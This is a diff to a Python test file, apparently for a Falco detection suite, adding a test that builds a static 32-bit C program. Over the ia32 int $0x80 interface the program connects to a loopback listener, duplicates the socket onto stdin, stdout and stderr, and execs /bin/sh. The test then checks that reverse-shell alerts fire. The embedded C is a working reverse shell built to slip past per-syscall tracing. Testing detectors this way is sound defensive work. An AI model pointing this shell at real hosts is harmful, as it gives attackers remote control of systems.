@@ -17,6 +17,9 @@ namespaces and cgroup). The reverse shells connect to a listener this test runs 
 127.0.0.1, so those containers share the host's network namespace (--network host);
 the traffic stays on loopback. Each shell's connection is told apart by its client
 port, which the listener sees and the alerts show (fd.lport, proc.stdin.name).
+A static 32-bit program does the same through the ia32 ABI (dup2, dup3 and fcntl64
+by int $0x80), where the raw sys_exit dispatcher must route the calls; the test is
+skipped, with the reason, on a kernel that runs no 32-bit code.
 """
 import os
 import socket
@@ -251,3 +254,58 @@ def test_packet_socket_in_container(sv, busybox_image):
     assert "Packet socket was created in a container" in a["output"], a  # Falco's own
     # python makes it close-on-exec: SOCK_RAW|SOCK_CLOEXEC
     assert of(a, "evt.args") == f"fd={fd} domain=AF_PACKET type=524291 proto=768 flags=O_CLOEXEC", a
+
+
+# A static 32-bit program with no libc, every call through int $0x80 (the ia32 ABI,
+# which no per-syscall tracepoint sees): it connects to PORT, puts the socket on fd 0
+# with dup2, fd 1 with dup3 and fd 2 with fcntl64(F_DUPFD) after closing 2, then execs
+# /bin/sh on it.
+IA32_SHELL = r"""
+static long sys(long nr, long a, long b, long c)
+{
+	long ret;
+
+	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
+	return ret;
+}
+
+__attribute__((force_align_arg_pointer)) void _start(void)
+{
+	static const unsigned char sa[16] = {2, 0, (PORT >> 8) & 0xff, PORT & 0xff, 127, 0, 0, 1};
+	static char *argv[] = {"sh", "-c", "read x", 0};
+	long fd = sys(359, 2, 1, 0);		/* socket(AF_INET, SOCK_STREAM, 0) */
+
+	sys(362, fd, (long)sa, sizeof(sa)); /* connect */
+	sys(63, fd, 0, 0);		    /* dup2 */
+	sys(330, fd, 1, 0);		    /* dup3 */
+	sys(6, 2, 0, 0);		    /* close */
+	sys(221, fd, 0, 2);		    /* fcntl64(F_DUPFD, 2) */
+	sys(11, (long)"/bin/sh", (long)argv, 0);
+	sys(1, 1, 0, 0);
+}
+"""
+
+
+def test_ia32_reverse_shell(sv, busybox_image, tmp_path):
+    import test_rules  # its probe of whether this kernel runs 32-bit code at all
+    off = test_rules.ia32_refused(str(tmp_path))
+    if off:
+        pytest.skip(off)
+    lst = Listener()
+    src, exe = str(tmp_path / "shell32.c"), str(tmp_path / "shell32")
+    with open(src, "w") as f:
+        f.write(IA32_SHELL)
+    subprocess.run(["clang", "-m32", "-nostdlib", "-static", "-ffreestanding", "-fno-pic", "-O1",
+                    f"-DPORT={lst.port}", "-o", exe, src], check=True)
+    try:
+        container([f"/{os.path.basename(exe)}"], network="host",
+                  extra=["-v", f"{exe}:/{os.path.basename(exe)}:ro"])
+    finally:
+        lst.close()
+    assert lst.client_port, "the 32-bit program never connected"
+    POSITIVE.add(lst.client_port)
+    for t in ("dup2", "dup3", "dup"):
+        sv.wait_alert(lambda a: redirect_of(lst)(a) and of(a, "evt.type") == t, 15,
+                      f"'{REDIRECT}' for the ia32 {t}")
+    s = sv.wait_alert(reverse_of(lst), 15, f"'{REVERSE}' for the 32-bit program's shell")
+    assert of(s, "proc.name") == "sh", s
